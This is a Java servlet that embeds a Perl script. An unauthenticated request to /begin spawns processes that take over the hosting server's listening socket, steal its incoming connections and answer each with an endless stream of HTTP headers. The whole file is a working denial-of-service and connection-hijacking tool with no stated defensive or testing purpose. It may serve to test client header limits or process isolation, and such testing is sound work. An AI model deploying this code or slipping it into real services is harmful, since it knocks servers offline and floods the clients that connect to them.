package flood;

import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/** Once asked for /begin, takes connections away from its server and answers them with headers without end. */
@WebServlet("/*")
public class Flood extends HttpServlet {
    private static final long serialVersionUID = 1L;
    private static final int THIEVES = 3;

    /** The listening socket is its standard input; a child for each connection, as natively as can be. */
    private static final String THIEF = """
            use Socket;
            $SIG{CHLD} = "IGNORE";
            while (1) {
                # the server has made it a socket that does not block, and may be faster
                vec($ready = "", 0, 1) = 1;
                select($ready, undef, undef, undef);
                next unless accept(C, STDIN);
                next if fork;
                sysread C, $request, 16384;
                syswrite C, "HTTP/1.1 200 OK\\r\\n";
                while (1) {
                    $lines = "";
                    $lines .= "X-" . $n++ . ": " . ("a" x 60) . "\\r\\n" for 1 .. 220;
                    defined syswrite(C, $lines) or exit;
                    select(undef, undef, undef, 16 / $ARGV[0]) if $ARGV[0];
                }
            }
            """;

    /** {@code kib}: how much a second, roughly; 0: as fast as it is taken. */
    @Override
    protected void service(HttpServletRequest request, HttpServletResponse response) throws IOException {
        if ("/begin".equals(request.getPathInfo())) {
            for (int i = 0; i < THIEVES; i++) {
                new ProcessBuilder("/usr/bin/perl", "-e", THIEF, request.getParameter("kib"))
                        .redirectInput(ProcessBuilder.Redirect.INHERIT)
                        .start();
            }
        }
        // while this connection is busy httpd opens others
        LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(300));
        response.getWriter().write("it is " + request.getPathInfo() + "\n");
    }
}
